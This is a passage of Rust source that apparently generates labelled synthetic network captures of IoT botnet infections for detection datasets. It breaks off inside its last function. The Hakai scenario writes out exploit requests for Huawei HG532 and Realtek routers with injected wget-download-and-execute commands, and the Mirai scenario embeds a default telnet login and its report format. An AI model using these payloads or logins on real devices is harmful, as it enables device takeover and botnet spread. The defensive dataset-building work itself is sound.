//! Infected devices, one family per scenario.

use std::io;
use std::path::Path;

use crate::wire::{flags, ip, tcp_header, Capture, Rng, Tcp, ZConn, ZeekLogs, SEC};
use crate::{Labels, BASE_US};

pub(crate) const MIRAI_SRC: &str =
    "jgamblin/Mirai-Source-Code@4889a6f797237f1d4210839bcefd9f89c57c0770";
/// The home router's DNS forwarder.
pub(crate) const ROUTER: [u8; 4] = [192, 168, 1, 1];
/// Stands for a public resolver (Mirai asks 8.8.8.8 directly).
pub(crate) const PUBLIC_DNS: [u8; 4] = [192, 0, 2, 53];
/// An NTP server.
pub(crate) const NTP: [u8; 4] = [198, 51, 100, 123];

/// An NTP client exchange (48-byte mode 3 request and mode 4 reply).
pub(crate) fn ntp(cap: &mut Capture, t: i64, client: [u8; 4], server: [u8; 4], sport: u16) {
    let mut req = vec![0u8; 48];
    req[0] = 0x23; // LI 0, version 4, mode 3
    cap.udp(t, client, server, sport, 123, &req);
    let mut resp = vec![0u8; 48];
    resp[0] = 0x24;
    resp[1] = 2;
    cap.udp(t + 25_000, server, client, 123, sport, &resp);
}

/// A SYN from a normal `connect()` (40-byte header with options, random sequence).
pub(crate) fn connect_syn(
    cap: &mut Capture,
    rng: &mut Rng,
    t: i64,
    src: [u8; 4],
    dst: [u8; 4],
    sport: u16,
    dport: u16,
) -> u32 {
    let seq = rng.u32();
    cap.tcp(
        t,
        src,
        dst,
        tcp_header(sport, dport, seq, 0, flags::SYN, 64240, true),
        64,
        &[],
        0,
    );
    seq
}

/// Mirai's random target, `get_random_ip()` (scanner.c:674-700): uniform IPv4 outside the
/// excluded blocks.
fn mirai_target(rng: &mut Rng) -> [u8; 4] {
    loop {
        let a = rng.public_addr();
        let excluded = matches!(
            a[0],
            3 | 6 | 7 | 11 | 15 | 16 | 21 | 22 | 26 | 28 | 29 | 30 | 33 | 55 | 56 | 214 | 215
        );
        if !excluded {
            return a;
        }
    }
}

/// Mirai: C2 on telnet with its 2-byte keep-alive, the raw-socket scanner (seq = daddr,
/// 160 SYN/s, 9:1 to 23/2323), a brute-forced telnet login and the report to 48101.
pub(crate) fn mirai(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 20];
    let cnc = [203, 0, 113, 10];
    let report = [203, 0, 113, 11];
    let mut cap = Capture::new();
    let t0 = BASE_US;
    // five quiet minutes of a DVR: NTP and a lookup
    cap.dns(
        rng,
        t0 + 2 * SEC,
        dev,
        ROUTER,
        "ntp.dvr-vendor.example",
        &[NTP],
        3600,
        20_000,
    );
    ntp(&mut cap, t0 + 3 * SEC, dev, NTP, rng.ephemeral());
    let start = t0 + 300 * SEC;
    // resolve the CNC through the public resolver, connect to it on 23
    cap.dns(
        rng,
        start,
        dev,
        PUBLIC_DNS,
        "cnc.changeme.example",
        &[cnc],
        300,
        30_000,
    );
    let mut c2 = Tcp::open(&mut cap, rng, start + 100_000, dev, cnc, 0, 23, 60_000);
    let mut t = c2.c_send(&mut cap, start + 300_000, &[0, 0, 0, 1, 0], 0, 100);
    // keep-alive: two zero bytes about every 60 s, echoed by the CNC, for 20 minutes
    let end = start + 1200 * SEC;
    while t < end {
        t += 60 * SEC + rng.range(-200_000, 200_000);
        c2.c_send(&mut cap, t, &[0, 0], 0, 100);
        c2.s_send(&mut cap, t + 60_000, &[0, 0], 0, 100);
    }
    // scanner: one raw socket, a fixed source port, 160 SYNs when the second changes
    let sport = 1024 + (rng.below(64_000) as u16);
    let scan_start = start + 2 * SEC;
    let mut found: Option<([u8; 4], i64)> = None;
    for sec in 0..300i64 {
        let burst = scan_start + sec * SEC + rng.range(0, 20_000);
        for i in 0..160i64 {
            let dst = mirai_target(rng);
            let dport = if i % 10 == 0 { 2323 } else { 23 };
            let seq = u32::from_be_bytes(dst);
            let ts = burst + i * 40;
            let h = tcp_header(sport, dport, seq, 0, flags::SYN, rng.u16(), false);
            cap.tcp(ts, dev, dst, h, 64, &[], 0);
            let r = rng.below(1000);
            if r < 15 {
                // a closed port answers with RST
                let h = tcp_header(
                    dport,
                    sport,
                    0,
                    seq.wrapping_add(1),
                    flags::RST | flags::ACK,
                    0,
                    false,
                );
                cap.tcp(ts + rng.range(20_000, 300_000), dst, dev, h, 50, &[], 0);
            } else if found.is_none() && sec == 120 && i == 7 {
                let h = tcp_header(
                    dport,
                    sport,
                    rng.u32(),
                    seq.wrapping_add(1),
                    flags::SYN | flags::ACK,
                    14600,
                    false,
                );
                cap.tcp(ts + 120_000, dst, dev, h, 50, &[], 0);
                found = Some((dst, ts + 150_000));
            }
        }
    }
    // brute force the device that answered, then report the working login
    if let Some((victim, at)) = found {
        let mut s = Tcp::open(&mut cap, rng, at, dev, victim, 0, 23, 110_000);
        let steps: [(&[u8], &[u8]); 7] = [
            (
                b"",
                b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03login: ",
            ),
            (b"root\r\n", b"Password: "),
            (b"xc3511\r\n", b"\r\n# "),
            (b"enable\r\n", b"# "),
            (b"system\r\n", b"# "),
            (b"shell\r\n", b"# "),
            (
                b"sh\r\n/bin/busybox MIRAI\r\n",
                b"MIRAI: applet not found\r\n# ",
            ),
        ];
        let mut t = at + 300_000;
        for (req, resp) in steps {
            if !req.is_empty() {
                t = s.c_send(&mut cap, t, req, 0, 100);
            }
            t = s.s_send(&mut cap, t + 150_000, resp, 0, 100) + 400_000;
        }
        s.close(&mut cap, t, 110_000);
        let t = t + SEC;
        cap.dns(
            rng,
            t,
            dev,
            PUBLIC_DNS,
            "report.changeme.example",
            &[report],
            300,
            30_000,
        );
        let mut r = Tcp::open(&mut cap, rng, t + 50_000, dev, report, 0, 48101, 60_000);
        let mut msg = vec![0u8];
        msg.extend_from_slice(&victim);
        msg.extend_from_slice(&23u16.to_be_bytes());
        msg.push(4);
        msg.extend_from_slice(b"root");
        msg.push(6);
        msg.extend_from_slice(b"xc3511");
        let t = r.c_send(&mut cap, t + 200_000, &msg, 0, 100);
        r.close(&mut cap, t + 10_000, 60_000);
    }
    cap.write(&dir.join("traffic.pcap"))?;
    Ok(Labels::new("mirai", "botnet", "A DVR infected by Mirai (leaked source): C2 on telnet with 2-byte keep-alives every ~60 s, the raw-socket scanner for 5 minutes, one brute-forced telnet login reported to port 48101.")
        .family("mirai")
        .seven()
        .pcap("traffic.pcap")
        .host(dev, "infected", "DVR infected by Mirai", Some(start))
        .c2(&format!("{}:23", ip(cnc)))
        .c2(&format!("{}:48101", ip(report)))
        .fact("scanner: raw 40-byte SYN, no options, TTL 64, one source port, random window, seq = destination address", &format!("{MIRAI_SRC}:mirai/bot/scanner.c:101-225"), "H")
        .fact("scanner rate: 160 SYNs per burst, a burst when the second changes; 1 in 10 to 2323, else 23", &format!("{MIRAI_SRC}:mirai/bot/scanner.h:9-12, scanner.c:201-223"), "H")
        .fact("targets: uniform random IPv4 outside excluded blocks", &format!("{MIRAI_SRC}:mirai/bot/scanner.c:674-700"), "H")
        .fact("CNC cnc.changeme.com on TCP 23; handshake 00 00 00 01 + id length + id; keep-alive 2 zero bytes about every 60 s", &format!("{MIRAI_SRC}:mirai/bot/table.c:18-19, main.c:194-267"), "H")
        .fact("CNC echoes the keep-alive", &format!("{MIRAI_SRC}:mirai/cnc/bot.go"), "M")
        .fact("DNS to 8.8.8.8 directly (represented by 192.0.2.53)", &format!("{MIRAI_SRC}:mirai/bot/resolv.c:84-85"), "H")
        .fact("login then enable/system/shell/sh and /bin/busybox MIRAI, expecting 'MIRAI: applet not found'; root/xc3511 in the credential list", &format!("{MIRAI_SRC}:mirai/bot/scanner.c:124-185, table.c"), "H")
        .fact("report: new TCP connection to report.changeme.com:48101, 0x00 + victim IPv4 + port + user/pass with lengths", &format!("{MIRAI_SRC}:mirai/bot/scanner.c:947-953, table.c:21-22"), "H")
        .note("About 1.5 % of probes answered by RST and one SYN-ACK: the Internet's reply mix is a modelling choice (L).")
        .note("Domain names are changeme.example stand-ins for the source's changeme.com."))
}

/// A Mirai variant whose C2 is unreachable: a connection attempt every 80.1 s for 23 h.
pub(crate) fn mirai_unreachable(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 21];
    let cnc = [203, 0, 113, 20];
    let port = 1312;
    let start = BASE_US + 600 * SEC;
    let polls = (23 * 3600 * 10) / 801; // 80.1 s apart for 23 hours
    let mut zeek = ZeekLogs::new();
    let mut cap = Capture::new();
    // background: an hourly NTP sync with its lookup, in both forms
    for h in 0..24i64 {
        let t = BASE_US + h * 3600 * SEC + 5 * SEC;
        zeek.lookup(
            rng,
            t,
            dev,
            ROUTER,
            "pool.ntp.example",
            &[NTP],
            3600,
            20_000,
        );
        cap.dns(
            rng,
            t,
            dev,
            ROUTER,
            "pool.ntp.example",
            &[NTP],
            3600,
            20_000,
        );
        let sp = rng.ephemeral();
        zeek.conn.push(ZConn {
            ts: t + 30_000,
            orig_h: ip(dev),
            orig_p: sp,
            resp_h: ip(NTP),
            resp_p: 123,
            proto: "udp",
            service: Some("ntp"),
            duration: Some(25_000),
            orig_bytes: Some(48),
            resp_bytes: Some(48),
            conn_state: "SF",
            history: Some("Dd".into()),
            orig_pkts: 1,
            orig_ip_bytes: 76,
            resp_pkts: 1,
            resp_ip_bytes: 76,
        });
        ntp(&mut cap, t + 30_000, dev, NTP, sp);
    }
    for k in 0..polls {
        // the first attempt is the labelled start; later ones jitter by ±50 ms
        let jitter = if k == 0 {
            0
        } else {
            rng.range(-50_000, 50_000)
        };
        let t = start + k * 80_100_000 + jitter;
        // Zeek: the attempt (one 4-tuple: the same socket's retransmitted SYNs) as four S0
        // records, at t, +7 s, +16 s, +32 s
        let zsp = rng.ephemeral();
        for off in [0i64, 7, 16, 32] {
            zeek.conn.push(ZConn {
                ts: t + off * SEC,
                orig_h: ip(dev),
                orig_p: zsp,
                resp_h: ip(cnc),
                resp_p: port,
                proto: "tcp",
                conn_state: "S0",
                history: Some("S".into()),
                orig_pkts: 1,
                orig_ip_bytes: 60,
                orig_bytes: Some(0),
                resp_bytes: Some(0),
                ..ZConn::default()
            });
        }
        // pcap: the kernel's SYN and its retransmissions at +1, +3, +7 s
        let sp = rng.ephemeral();
        let seq = rng.u32();
        for off in [0i64, 1, 3, 7] {
            let h = tcp_header(sp, port, seq, 0, flags::SYN, 64240, true);
            cap.tcp(t + off * SEC, dev, cnc, h, 64, &[], 0);
        }
    }
    zeek.write(rng, dir)?;
    cap.write(&dir.join("traffic.pcap"))?;
    Ok(Labels::new("mirai-variant-unreachable-c2", "botnet", "A Mirai-variant bot whose C2 does not answer: it tries to connect every 80.1 s for 23 hours and does nothing else. Zeek splits each attempt into S0 records at t, +7 s, +16 s, +32 s; the pcap shows one SYN and its retransmissions at +1, +3, +7 s.")
        .family("mirai-variant")
        .seven()
        .zeek()
        .pcap("traffic.pcap")
        .host(dev, "infected", "router infected by a Mirai variant, C2 down", Some(start))
        .c2(&format!("{}:{port}", ip(cnc)))
        .fact("the failure shape: polls every 80.1 s for ~23 h, unanswered; Zeek S0 records at t, +7, +16, +32 s", "the project's issue (real labelled botnet traffic, 1 of 7 infected devices found)", "M")
        .fact("Linux retransmits an unanswered SYN after 1, 3, 7 s (initial RTO 1 s, doubling)", "RFC 6298 section 2 (initial RTO 1 s) and Linux tcp_syn_retries behaviour", "M")
        .fact("Mirai variants move their C2 off telnet to other ports", "/work/shared/facts/botnets.md §3.2 (ProjectZAR/satori:bot/tel.c reports to port 774)", "M")
        .note("Port 1312 is a modelling choice: any non-telnet C2 port.")
        .note("Each Zeek record gets its own source port; whether the real records share one is not known here (L)."))
}

/// A plain-text, line-based C2 session of the Gafgyt/Qbot family: the bot registers, the
/// server sends PING lines and commands, the bot answers PONG.
#[allow(clippy::too_many_arguments)]
fn gafgyt_c2(
    cap: &mut Capture,
    rng: &mut Rng,
    dev: [u8; 4],
    cnc: [u8; 4],
    port: u16,
    start: i64,
    end: i64,
    arch: &str,
    cmds: &[(i64, &[u8])],
) {
    let mut s = Tcp::open(cap, rng, start, dev, cnc, 0, port, 90_000);
    let mut t = s.c_send(
        cap,
        start + 200_000,
        format!("BUILD {arch}\n").as_bytes(),
        0,
        100,
    );
    let mut next_cmd = 0usize;
    while t < end {
        t += 60 * SEC + rng.range(-2 * SEC, 2 * SEC);
        while let Some((at, cmd)) = cmds.get(next_cmd) {
            if start + *at > t {
                break;
            }
            s.s_send(cap, start + *at, cmd, 0, 100);
            next_cmd += 1;
        }
        s.s_send(cap, t, b"PING\n", 0, 100);
        s.c_send(cap, t + 95_000, b"PONG\n", 0, 100);
    }
    s.close(cap, end, 90_000);
}

/// Gafgyt/Bashlite: plain-text C2 on a rare port, then a telnet scan when told.
pub(crate) fn gafgyt(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 22];
    let cnc = [203, 0, 113, 30];
    let port = 666;
    let start = BASE_US + 120 * SEC;
    let end = start + 1800 * SEC;
    let mut cap = Capture::new();
    ntp(&mut cap, BASE_US + SEC, dev, NTP, rng.ephemeral());
    let scan_on = 600 * SEC;
    gafgyt_c2(
        &mut cap,
        rng,
        dev,
        cnc,
        port,
        start,
        end,
        "MIPS",
        &[(scan_on, b"!* SCANNER ON\n")],
    );
    // the scanner: connect() to random addresses on 23, about 40 a second, for 10 minutes
    let mut t = start + scan_on + 200_000;
    let stop = t + 600 * SEC;
    while t < stop {
        let dst = rng.public_addr();
        let sp = rng.ephemeral();
        connect_syn(&mut cap, rng, t, dev, dst, sp, 23);
        t += rng.range(5_000, 45_000);
    }
    cap.write(&dir.join("traffic.pcap"))?;
    Ok(Labels::new("gafgyt", "botnet", "A camera infected by Gafgyt/Bashlite: a plain-text C2 session on TCP 666 (BUILD line, PING/PONG about every 60 s) for 30 minutes; told to scan, it connects to random addresses on telnet at ~40/s for 10 minutes.")
        .family("gafgyt")
        .pcap("traffic.pcap")
        .host(dev, "infected", "IP camera infected by Gafgyt", Some(start))
        .c2(&format!("{}:{port}", ip(cnc)))
        .fact("Gafgyt C2 is plain-text and line-based; the first message after connecting is a register message", "https://archive.orkl.eu/f7dec0767e7b20e7b720801fcf5e9c2e17b65574.txt (VB paper, via /work/shared/facts/botnets.md §3.5)", "M")
        .fact("leaked Qbot variants: line-based C2 unlike Mirai's binary protocol; small telnet credential lists", "R00tS3c/DDOS-RootSec:Botnets/Qbot/Renegade/server.c (via /work/shared/facts/botnets.md §3.5)", "M")
        .fact("BUILD <arch> register line, PING/PONG, '!* SCANNER ON' command; 60 s cadence; port 666; scan rate 40/s", "recalled from leaked Qbot client sources; modelling choices", "L"))
}

/// Hakai: Gafgyt-derived C2, exploit probes to 37215 (Huawei HG532) and 52869 (Realtek).
pub(crate) fn hakai(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 23];
    let cnc = [203, 0, 113, 40];
    let port = 1337;
    let start = BASE_US + 60 * SEC;
    let end = start + 1800 * SEC;
    let mut cap = Capture::new();
    gafgyt_c2(
        &mut cap,
        rng,
        dev,
        cnc,
        port,
        start,
        end,
        "MIPSEL",
        &[
            (30 * SEC, b"!* HUAWEI ON\n"),
            (35 * SEC, b"!* REALTEK ON\n"),
        ],
    );
    // exploit scanners: connect() to random addresses, ~25/s on each port, from +40 s
    let mut t = start + 40 * SEC;
    let stop = start + 1200 * SEC;
    let mut hits = 0u32;
    while t < stop {
        let dst = rng.public_addr();
        let dport = if rng.below(2) == 0 { 37215 } else { 52869 };
        let sp = rng.ephemeral();
        let seq = connect_syn(&mut cap, rng, t, dev, dst, sp, dport);
        // about 1 in 2,000 answers; the exploit goes to it
        if rng.below(2000) == 0 && hits < 6 {
            hits += 1;
            let h = tcp_header(
                dport,
                sp,
                rng.u32(),
                seq.wrapping_add(1),
                flags::SYN | flags::ACK,
                14600,
                true,
            );
            cap.tcp(t + 150_000, dst, dev, h, 48, &[], 0);
            let mut s = Tcp::open(&mut cap, rng, t + 400_000, dev, dst, 0, dport, 150_000);
            let body = if dport == 37215 {
                format!("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: {}:37215\r\nContent-Length: 430\r\nAuthorization: Digest username=dslf-config, realm=HuaweiHomeGateway, nonce=88645cefb1f9ede0e336e3569d75ee30, uri=/ctrlt/DeviceUpgrade_1, response=3612f843a42db38f48f59d2a3597e19c, algorithm=MD5, qop=auth, nc=00000001, cnonce=248d1a2560100669\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g 203.0.113.41 -l /tmp/h -r /h.mips)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>", ip(dst))
            } else {
                format!("POST /picsdesc.xml HTTP/1.1\r\nHost: {}:52869\r\nContent-Length: 630\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; wget http://203.0.113.41/h.mips -O h; chmod 777 h; ./h realtek`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>", ip(dst))
            };
            let t2 = s.c_send(&mut cap, t + 700_000, body.as_bytes(), 0, 200);
            s.close(&mut cap, t2 + SEC, 150_000);
        }
        t += rng.range(5_000, 35_000);
    }
    cap.write(&dir.join("traffic.pcap"))?;
    Ok(Labels::new("hakai", "botnet", "A router infected by Hakai (Gafgyt-derived): plain-text C2 on TCP 1337 for 30 minutes; from +40 s, connect() probes to random addresses on 37215 (Huawei HG532, CVE-2017-17215) and 52869 (Realtek SDK, CVE-2014-8361) at ~50/s, with the exploit POST to the few that answer.")
        .family("hakai")
        .seven()
        .pcap("traffic.pcap")
        .host(dev, "infected", "home router infected by Hakai", Some(start))
        .c2(&format!("{}:{port}", ip(cnc)))
        .fact("CVE-2017-17215: remote code execution in Huawei HG532 through port 37215 (UPnP/TR-064 DeviceUpgrade)", "https://amp.hothardware.com/news/hacker-ensnares-18000-huawei-devices-botnet-just-24-hours; https://www.darkreading.com/vulnerabilities-threats/hacker-targeted-huawei-router-0-day-in-attempt-to-create-new-mirai-botnet", "M")
        .fact("CVE-2014-8361: Realtek routers exploited via port 52869; botnets scan for both", "https://cyware.com/news/hacker-builds-massive-huawei-based-botnet-by-enslaving-18000-routers-in-just-24-hours-dc74757d/", "M")
        .fact("Hakai is Gafgyt-derived and uses these exploits", "recalled from NewSky Security's 2018 write-up (not retrieved here)", "L")
        .fact("exploit bodies (DeviceUpgrade_1 NewStatusURL; AddPortMapping NewInternalClient command injection)", "recalled from public exploit descriptions (ET rules, Check Point)", "M")
        .note("Probe rate (~50/s), answer rate (1 in 2,000), C2 port 1337 and commands are modelling choices (L)."))
}

/// Torii: DNS for its C2 names, then sessions on TCP 443 that are not TLS.
pub(crate) fn torii(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 26];
    let c2s = [
        ([203, 0, 113, 60], "top.torii-c2a.example"),
        ([203, 0, 113, 61], "cloud.torii-c2b.example"),
        ([203, 0, 113, 62], "trade.torii-c2c.example"),
    ];
    let start = BASE_US + 300 * SEC;
    let mut cap = Capture::new();
    ntp(&mut cap, BASE_US + 10 * SEC, dev, NTP, rng.ephemeral());
    // the dropper fetches the bot over HTTP (ELF), then the bot calls home
    let mut d = Tcp::open(
        &mut cap,
        rng,
        start - 20 * SEC,
        dev,
        [203, 0, 113, 63],
        0,
        80,
        90_000,
    );
    let t = d.c_send(
        &mut cap,
        start - 19 * SEC,
        b"GET /bins/arm7 HTTP/1.1\r\nHost: 203.0.113.63\r\nUser-Agent: Wget\r\n\r\n",
        0,
        100,
    );
    let mut body = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 61440\r\n\r\n\x7fELF\x01\x01\x01\x00".to_vec();
    body.resize(1448, 0);
    let t = d.s_send(&mut cap, t + 90_000, &body, 61440 + 80 - 1448, 2_000);
    d.close(&mut cap, t + 50_000, 90_000);
    let mut t = start;
    let mut k = 0usize;
    let end = start + 3 * 3600 * SEC;
    while t < end {
        let (addr, name) = c2s[k % c2s.len()];
        cap.dns(rng, t, dev, ROUTER, name, &[addr], 300, 25_000);
        let mut s = Tcp::open(&mut cap, rng, t + 100_000, dev, addr, 0, 443, 120_000);
        // a custom XOR-encrypted binary exchange: no TLS record header
        let req: Vec<u8> = (0..rng.range(120, 260))
            .map(|_| (rng.u16() & 0xff) as u8 | 0x01)
            .collect();
        let resp: Vec<u8> = (0..rng.range(40, 90))
            .map(|_| (rng.u16() & 0xff) as u8 | 0x01)
            .collect();
        let e = s.exchange(&mut cap, t + 400_000, 120_000, &req, &resp);
        s.close(&mut cap, e + 200_000, 120_000);
        k += 1;
        t += rng.range(60, 120) * SEC;
    }
    cap.write(&dir.join("traffic.pcap"))?;
    let mut l = Labels::new("torii", "botnet", "A device infected by Torii: the dropper fetches an ELF over HTTP, then the bot looks up one of three C2 names in turn and opens a short session on TCP 443 carrying a custom encrypted protocol (not TLS) every 60-120 s for 3 hours.")
        .family("torii")
        .seven()
        .pcap("traffic.pcap")
        .host(dev, "infected", "device infected by Torii", Some(start - 20 * SEC));
    for (a, _) in c2s {
        l = l.c2(&format!("{}:443", ip(a)));
    }
    Ok(l.c2("203.0.113.63:80")
        .fact("Torii spreads by telnet brute force; a shell script picks the architecture and downloads an ELF dropper over HTTP or FTP, which installs the bot", "https://nhsd-proxy.dokku3.ebmdatalab.net/cyber-alerts/2018/cc-2696; https://cyberlawwatch.com/2018/10/05/move-over-mirai-torii-is-tipped-to-be-the-new-botnet-boss", "M")
        .fact("C2 communication is encrypted; data exfiltration and command execution", "https://cert.bournemouth.ac.uk/new-iot-botnet-torii-uses-six-methods-for-persistence-has-no-clear-purpose/ (citing Avast)", "M")
        .fact("C2 on TCP 443 with a custom XOR-based protocol rather than TLS, several hard-coded C2 domains tried in turn", "recalled from Avast's 2018 Torii analysis (not retrieved here)", "L")
        .note("The 60-120 s cadence is a modelling choice: Avast's text was not available to check the real one (L). C2 domain names are fictional."))
}

/// The IRC session of a Tsunami/Kaiten-style bot.
#[allow(clippy::too_many_arguments)]
fn irc_session(
    cap: &mut Capture,
    rng: &mut Rng,
    dev: [u8; 4],
    cnc: [u8; 4],
    port: u16,
    t: i64,
    end: i64,
    nick: &str,
    user: &str,
    chan: &str,
) -> i64 {
    let mut s = Tcp::open(cap, rng, t, dev, cnc, 0, port, 80_000);
    let mut t = s.c_send(
        cap,
        t + 150_000,
        format!("NICK {nick}\r\nUSER {user}\r\n").as_bytes(),
        0,
        100,
    );
    t = s.s_send(cap, t + 300_000, format!(":irc.c2.example 001 {nick} :Welcome\r\n:irc.c2.example 376 {nick} :End of /MOTD command.\r\n").as_bytes(), 0, 100);
    t = s.c_send(
        cap,
        t + 50_000,
        format!("JOIN {chan}\r\n").as_bytes(),
        0,
        100,
    );
    s.s_send(
        cap,
        t + 80_000,
        format!(
            ":{nick}!x@192.0.2.1 JOIN :{chan}\r\n:irc.c2.example 332 {nick} {chan} :!* scan\r\n"
        )
        .as_bytes(),
        0,
        100,
    );
    while t < end {
        t += 90 * SEC + rng.range(0, 30 * SEC);
        s.s_send(cap, t, b"PING :irc.c2.example\r\n", 0, 100);
        s.c_send(cap, t + 85_000, b"PONG :irc.c2.example\r\n", 0, 100);
    }
    s.close(cap, end, 80_000);
    end
}

/// Tsunami/Kaiten: an IRC bot on a non-standard port, live C2.
pub(crate) fn irc_tsunami(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 24];
    let cnc = [203, 0, 113, 50];
    let port = 9999;
    let start = BASE_US + 120 * SEC;
    let mut cap = Capture::new();
    ntp(&mut cap, BASE_US + 5 * SEC, dev, NTP, rng.ephemeral());
    cap.dns(
        rng,
        start - 500_000,
        dev,
        ROUTER,
        "irc.c2.example",
        &[cnc],
        600,
        25_000,
    );
    let nick = format!("[LNX|mips]{:04x}", rng.u16());
    irc_session(
        &mut cap,
        rng,
        dev,
        cnc,
        port,
        start,
        start + 2 * 3600 * SEC,
        &nick,
        "x localhost localhost :x",
        "#k0k",
    );
    cap.write(&dir.join("traffic.pcap"))?;
    Ok(Labels::new("irc-bot-tsunami", "botnet", "A router running a Tsunami/Kaiten-style IRC bot: NICK/USER/JOIN to an IRC server on TCP 9999, then server PINGs answered by PONG every 90-120 s for 2 hours.")
        .family("tsunami")
        .seven()
        .pcap("traffic.pcap")
        .host(dev, "infected", "router running an IRC bot", Some(start - 500_000))
        .c2(&format!("{}:{port}", ip(cnc)))
        .fact("Tsunami is an IRC bot: it resolves its server, connects and waits for commands in a channel; DDoS floods", "https://blog.sonicwall.com/en-us/2015/09/linux-based-ircbot-spotted-in-the-wild-sep-18-2015/", "M")
        .fact("IRC is clear-text, commands NICK/USER/JOIN; servers traditionally on 6667, but can listen on any TCP port", "https://git.uphillsecurity.com/Mirror/zeek/src/branch/topic/timw/move-zeek-docs-to-main-repo/doc/logs/irc.rst (Zeek docs, irc.log)", "H")
        .fact("Kaiten's NICK/USER format, port 9999, PING cadence 90-120 s", "recalled from leaked Kaiten source; modelling choices", "L"))
}

/// Muhstik: an IRC bot that keeps reconnecting every 10 s once its server is down.
pub(crate) fn irc_muhstik(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 25];
    let cnc = [203, 0, 113, 51];
    let port = 9090;
    let start = BASE_US + 60 * SEC;
    let mut cap = Capture::new();
    let nick = format!("{}", 10_000 + rng.below(90_000));
    let user = format!("muhstik localhost localhost :muhstik-{}", rng.below(1000));
    let down = irc_session(
        &mut cap,
        rng,
        dev,
        cnc,
        port,
        start,
        start + 1200 * SEC,
        &nick,
        &user,
        "#muhstik",
    );
    // the server is gone (its host answers RST); the bot retries every 10 s for an hour
    let mut t = down + 10 * SEC;
    while t < down + 3600 * SEC {
        let sp = rng.ephemeral();
        let seq = connect_syn(&mut cap, rng, t, dev, cnc, sp, port);
        let h = tcp_header(
            port,
            sp,
            0,
            seq.wrapping_add(1),
            flags::RST | flags::ACK,
            0,
            false,
        );
        cap.tcp(t + 80_000, cnc, dev, h, 50, &[], 0);
        t += 10 * SEC + rng.range(0, 100_000);
    }
    cap.write(&dir.join("traffic.pcap"))?;
    Ok(Labels::new("irc-bot-muhstik-reconnect", "botnet", "A router running the Muhstik IRC bot on TCP 9090: NICK <digits> / USER muhstik ... :muhstik-<n>, JOIN, PING/PONG for 20 minutes; then the IRC server goes down (RST) and the bot reconnects every 10 s for an hour.")
        .family("muhstik")
        .seven()
        .pcap("traffic.pcap")
        .host(dev, "infected", "router running Muhstik", Some(start))
        .c2(&format!("{}:{port}", ip(cnc)))
        .fact("Muhstik's IRC check-in: 'NICK ' then 'USER muhstik' ... ' :muhstik-' and digits (ET Open sid 2029319)", "https://rules.evebox.org/history/rule/et/open/2029319", "H")
        .fact("Muhstik: worm-like Linux/IoT botnet (GPON, DD-WRT, Tomato routers), C2 over an IRC channel, mining and DDoS", "https://www.otrisk.com/muhstik-botnet-attacks-tomato-routers-to-harvest-new-iot-devices/ (Unit 42 text)", "M")
        .fact("a 10 s reconnect loop when the C2 is down", "the project's issue (failure shapes)", "M")
        .note("Port 9090 and the RST answer (host up, ircd down) are modelling choices (L); an unanswered SYN would instead give retransmissions."))
}

/// A generic Trojan: fetches an ELF over HTTP, then checks in.
pub(crate) fn trojan(dir: &Path, rng: &mut Rng) -> io::Result<Labels> {
    let dev = [192, 168, 1, 27];
    let dl = [203, 0, 113, 70];
    let c2 = [203, 0, 113, 71];
    let start = BASE_US + 200 * SEC;
    let mut cap = Capture::new();
    ntp(&mut cap, BASE_US + 5 * SEC, dev, NTP, rng.ephemeral());
    let mut d = Tcp::open(&mut cap, rng, start, dev, dl, 0, 80, 70_000);
    let t = d.c_send(
        &mut cap,
        start + 100_000,
        b"GET /bins/mirai.arm7 HTTP/1.0\r\nUser-Agent: Wget(linux)\r\nHost: 203.0.113.70\r\n\r\n",
        0,
        100,
    );
    let mut head = b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\nContent-Length: 98304\r\n\r\n".to_vec();
    head.extend_from_slice(
        b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00",
    );
    head.resize(MSS_FULL, 0);
    let t = d.s_send(&mut cap, t + 70_000, &head, 98_304 + 100 - MSS_FULL, 1_500);
    d.close(&mut cap, t + 20_000, 70_000);
    // check-in: an HTTP POST every ~5 minutes for 2 hours
    let mut t = t + 5 * SEC;
    let end = t + 2 * 3600 * SEC;
    while t < end {
        let mut s = Tcp::open(&mut cap, rng, t, dev, c2, 0, 8080, 90_000);
        let id = rng.u32();
        let req = format!("POST /gate HTTP/1.1\r\nHost: 203.0.113.71:8080\r\nContent-Length: 24\r\n\r\nid={id:08x}&arch=arm7&v=2");
        let e = s.exchange(
            &mut cap,
            t + 200_000,
            90_000,
            req.as_bytes(),
            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
        );
        s.close(&mut cap, e + 50_000, 90_000);
        t += 300 * SEC + rng.range(-15 * SEC, 15 * SEC);
    }
    cap.write(&dir.join("traffic.pcap"))?;
